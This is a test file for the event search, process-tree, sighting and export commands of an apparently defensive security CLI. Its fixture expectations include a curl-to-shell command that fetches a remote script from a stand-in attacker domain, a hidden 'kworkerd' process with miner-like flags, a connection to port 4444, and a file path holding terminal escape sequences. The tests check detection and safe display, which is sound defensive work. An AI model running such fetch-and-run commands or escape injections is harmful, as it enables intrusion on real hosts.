import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ATTACK, attackEvents } from '../api/attack-events.fixture.ts'
import { AGENT, OTHER_AGENT } from '../api/api.fixture.ts'
import { openTelemetryStore } from '../store/telemetry/chdb-store.ts'
import type { TelemetryStore } from '../store/telemetry/telemetry-store.ts'
import { startCli } from './cli.fixture.ts'
import { hasUnsafe } from './terminal-text.ts'

let dir: string
let telemetry: TelemetryStore
let cli: Awaited<ReturnType<typeof startCli>>

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'fb-cli-events-'))
  telemetry = await openTelemetryStore(dir)
  cli = await startCli({ telemetry })
  await cli.door.addHost(AGENT, 'web-1')
  await cli.door.addHost(OTHER_AGENT, 'db-1')
  await telemetry.insert('attack', attackEvents())
}, 60_000)
afterAll(async () => {
  await cli.stop()
  await telemetry.close()
  rmSync(dir, { recursive: true, force: true })
}, 30_000)

const events = async (...argv: readonly string[]) => await cli.run(['events', ...argv])

describe('firebreak events search', () => {
  it('shows the columns that matter for what was found, and says which time it looked at, in UTC', async () => {
    const network = await events('search', 'event.category:network and destination.port:*', '--since', '1h')
    expect(network.out).toMatch(/^TIME \(UTC\) +HOST +PROCESS +PID +PEER +DOMAIN\n/)
    expect(network.out).toContain(`→ ${ATTACK.address}:4444`)
    expect(network.err).toBe('2 events from 2026-11-24 11:05:00Z until now (UTC)\n')
    // Somebody who asks for three months has to know that the store has only today.
    const long = await events('search', 'event.category:network', '--since', '90d', '-o', 'json')
    expect(long.err).toBe('nothing from before 2026-11-24 is kept of: authentication, file, network, process\n')
    const logins = await events('search', 'user.name:alice')
    expect(logins.out).toMatch(/^TIME \(UTC\) +HOST +ACCOUNT +ACTION +OUTCOME +FROM/)
    const all = await events('search', '--limit', '3')
    expect(all.out).toMatch(/^TIME \(UTC\) +HOST +ACTION +WHO +WHAT\n/)
    expect(all.out.trimEnd().split('\n').length).toBe(4)
    expect(all.err).toMatch(/^the newest 3 events until now \(UTC\); more with --limit 30/)
    const oldest = await events('search', '--oldest', '--limit', '1', '-o', 'json')
    expect(oldest.json()).toMatchObject([{ process: { name: 'nginx' } }])
  })

  it('shows nothing that a terminal would act on, in any form, and fits the terminal', async () => {
    for (const form of [
      [],
      ['-o', 'json'],
      ['--ndjson'],
      ['-o', 'yaml'],
      ['-o', 'raw'],
      ['--fields', 'file.path,process.command_line'],
    ]) {
      const shown = await cli.run(['events', 'search', ...form], { columns: 80 })
      expect(hasUnsafe(shown.out.replaceAll('\n', '')), form.join(' ')).toBe(false)
      if (form.length === 0 || form[0] === '--fields')
        for (const line of shown.out.split('\n')) expect(Array.from(line).length, line).toBeLessThanOrEqual(80)
    }
    const plain = await events('search', 'file.path:*')
    expect(plain.out).not.toContain('\u001b')
    expect(plain.out).toContain(String.raw`/var/tmp/cron\x1b[2Jjob\u{202e}`)
  })

  it('gives only the fields that were asked for, as a table and as data', async () => {
    const table = await events(
      'search',
      'process.name:curl and destination.ip:*',
      '--fields',
      'process.pid,destination.ip',
    )
    expect(table.out).toBe(`process.pid  destination.ip\n2211         ${ATTACK.address}\n`)
    const data = await events(
      'search',
      'process.name:curl',
      '--fields',
      'process.pid,dns.resolved_ip',
      '--ndjson',
      '--limit',
      '3',
    )
    expect(
      data.out
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as unknown),
    ).toContainEqual({
      'process.pid': 2211,
      'dns.resolved_ip': [ATTACK.address],
    })
    const unknown = await events('search', '--fields', 'process.nam')
    expect([unknown.code, unknown.err]).toEqual([2, expect.stringContaining('did you mean process.name?')])
  })

  it('marks the place of what is wrong in a query', async () => {
    const wrong = await events('search', 'process.name:curl and destination.prt:4444')
    expect(wrong.code).toBe(2)
    expect(wrong.err).toContain('column 23: unknown field destination.prt, did you mean destination.port?')
    expect(wrong.err).toContain(
      `\n  process.name:curl and destination.prt:4444\n  ${' '.repeat(22)}${'^'.repeat(15)}\n`,
    )
    const nasty = await events('search', 'process.name:curl \u001b[31m x:1')
    expect([nasty.code, hasUnsafe(nasty.err.replaceAll('\n', ''))]).toEqual([2, false])
    expect((await events('search', '--since', 'tomorrowish')).code).toBe(2)
    expect((await events('search', '--until', '2026-02-30')).err).toContain('a time looks like')
  })

  it('says what to try when nothing was found', async () => {
    const none = await events('search', 'process.name:nothing')
    expect([none.code, none.out, none.err]).toEqual([0, '', expect.stringMatching(/^No events match\. .*--since/)])
    const other = await events('search', '--host', 'db-1', 'process.name:curl')
    expect(other.out).toBe('')
  })

  it('follows what comes in, each event once, also those whose hosts sent them late', async () => {
    let n = 0
    const enough = new Error('enough')
    const followed = await cli.run(
      ['events', 'search', 'process.name:late', '--follow', '--ndjson', '--fields', 'process.pid'],
      {
        onSleep: async () => {
          n++
          if (n > 3) throw enough
          await telemetry.insert(`late-${n}`, [
            {
              agentId: AGENT,
              epoch: '01a20d6d-5b90-7c9b-8378-2e328fd2af15',
              class: 'process',
              seq: 1_000 + n,
              ingestedAt: '2026-11-24T12:05:01.000Z',
              json: Buffer.from(
                JSON.stringify({
                  '@timestamp': '2026-11-20T00:00:00Z',
                  event: { category: ['process'], type: ['start'], action: 'process-started' },
                  process: { name: 'late', pid: n },
                }),
              ),
            },
          ])
        },
      },
    )
    const pids = followed.out
      .trimEnd()
      .split('\n')
      .map((line) => (JSON.parse(line) as { 'process.pid': number })['process.pid'])
    expect(pids).toEqual([1, 2, 3])
  })
})

describe('firebreak events tree', () => {
  it('draws where a process came from, what it started, and what each did', async () => {
    const tree = await cli.run(['events', 'tree', 'web-1', '2210'], { columns: 110 })
    expect(tree.out.split('\n')).toMatchObject([
      expect.stringMatching(/^web-1 aaaabbbbccccddddeeeeffff22, 2026-11-24, times are UTC$/),
      'systemd  (pid 1)',
      '│  (no event of its own tells of it)',
      '└─ nginx: master process /usr/sbin/nginx -g daemon on;  (pid 812, root)',
      '   │  started 08:00:00',
      '   └─ php-fpm: pool www  (pid 905, www-data)',
      '      │  started 08:00:01',
      `      └─ ▶ sh -c 'curl -fsS http://${ATTACK.domain}/k.sh | sh'  (pid 2210, www-data)`,
      '         │  started 11:40:00',
      '         │  ≡ 1 file: /dev/shm/.x/kworkerd',
      `         ├─ curl -fsS http://${ATTACK.domain}/k.sh  (pid 2211, www-data)`,
      '         │     started 11:40:00, ended 11:40:00 after 0.2 s, exit code 0',
      `         │     → 1 peer: ${ATTACK.address}:80`,
      `         │     ? 1 domain: ${ATTACK.domain}`,
      expect.stringMatching(/^ {9}└─ \.\/kworkerd --quiet --pool /),
      ...tree.out.split('\n').slice(15, -4),
      '               started 11:40:00, ended 11:40:03 after 2.4 s, exit code 137',
      `               → 1 peer: ${ATTACK.address}:4444`,
      String.raw`               ≡ 1 file: /var/tmp/cron\x1b[2Jjob\u{202e}`,
      '',
    ])
    expect((tree.out.match(/A/g) ?? []).length).toBeLessThan(320)
    const full = await cli.run(['events', 'tree', 'web-1', ATTACK.shell, '--full'])
    expect((full.out.match(/A/g) ?? []).length).toBeGreaterThanOrEqual(600)
    expect(hasUnsafe(full.out.replaceAll('\n', ''))).toBe(false)
    expect((await events('tree', AGENT.slice(0, 8), ATTACK.shell, '-o', 'raw')).out).toBe(`${ATTACK.shell}\n`)
  })

  it('asks which one is meant when a pid was used again, and takes a time for it', async () => {
    const several = await events('tree', 'web-1', '2211')
    expect([several.code, several.out]).toEqual([2, ''])
    expect(several.err).toMatch(/2 processes; say which by a time or by its entity id/)
    expect(several.err).toContain('b1c2:2211:9000  apt-get -qq update')
    expect((await events('tree', 'web-1', '2211', '--at', '2026-11-24T11:41')).out).toContain('▶ curl')
    expect((await events('tree', 'web-1', '2211', '--at', '1m')).out).toContain('▶ apt-get')
    expect((await events('tree', 'web-1', '9')).code).toBe(3)
    expect((await events('tree', 'nowhere', '9')).code).toBe(3)
  })
})

describe('firebreak events seen', () => {
  it('tells first, last and where, and the command that shows the events', async () => {
    const hash = await events('seen', ATTACK.sha256.toUpperCase())
    expect(hash.out).toContain('seen on 2 of 2 hosts, in 3 events\n')
    expect(hash.out).toContain('first 2026-11-24 11:40:00Z (25m ago), last 2026-11-24 11:52:00Z (13m ago)')
    expect(hash.out).toMatch(/db-1 +2026-11-24 11:52:00Z/)
    const [, query = ''] = /firebreak events search '(.*)'/.exec(hash.out) ?? []
    expect((await events('search', query, '-o', 'raw')).out.trimEnd().split('\n').length).toBe(3)
    expect((await events('seen', ATTACK.domain)).out).toContain('as destination.domain (1), dns.question.name (1)')
    expect((await events('seen', '198.51.100.99')).out).toContain('never seen on any of 2 hosts')
    expect((await events('seen', 'x')).code).toBe(2)
  })
})

describe('firebreak events export', () => {
  it('writes a whole file or none, for those who may', async () => {
    const ndjson = await events('export', 'process.name:curl', '--file', join(dir, 'out.ndjson'))
    expect([ndjson.code, ndjson.out]).toEqual([0, ''])
    expect(ndjson.err).toMatch(/^4 events until now \(UTC\) in /)
    expect(readFileSync(join(dir, 'out.ndjson'), 'utf8').trimEnd().split('\n').length).toBe(4)
    const parquet = await events('export', '--format', 'parquet', '--file', join(dir, 'out.parquet'))
    expect([parquet.code, parquet.err]).toEqual([0, expect.stringContaining(' events until now')])
    expect(readFileSync(join(dir, 'out.parquet')).subarray(-4).toString()).toBe('PAR1')
    expect((await events('export', 'process.name:curl', '--file', '-')).out.trimEnd().split('\n').length).toBe(4)
    const viewer = await cli.run(['events', 'export', '--file', join(dir, 'no.ndjson')], { role: 'viewer' })
    expect([viewer.code, existsSync(join(dir, 'no.ndjson'))]).toEqual([5, false])
    expect((await events('export', '--file', '/nonexistent/x')).code).toBe(1)
    expect((await events('export', '--format', 'parquet', '--file', '-')).code).toBe(2)
    expect((await events('export')).code).toBe(2)
  })
})

describe('firebreak events fields', () => {
  it('lists what can be searched by, with type and meaning', async () => {
    const fields = await events('fields', 'exit')
    expect(fields.out).toMatch(/^FIELD +TYPE +SPEED +DESCRIPTION\nprocess\.exit_code +number +fast +Exit status/)
    expect((await events('fields', '-o', 'raw')).out.split('\n').length).toBeGreaterThan(100)
    const help = await events('--help')
    // Every query that the help teaches is one.
    const taught = [
      ...help.out
        .slice(help.out.indexOf('Queries are written'))
        .matchAll(/^ {2}((?:@?[a-z_]+[.\w]*|evil\.sh)[^ ]*(?: \S+)*?) {2,}\S/gm),
    ].map(([, query = '']) => query)
    const queries = taught.filter((line) => !line.startsWith('firebreak'))
    expect(queries.length).toBeGreaterThan(9)
    for (const query of queries) expect((await events('search', query)).code, query).toBe(0)
  })
})
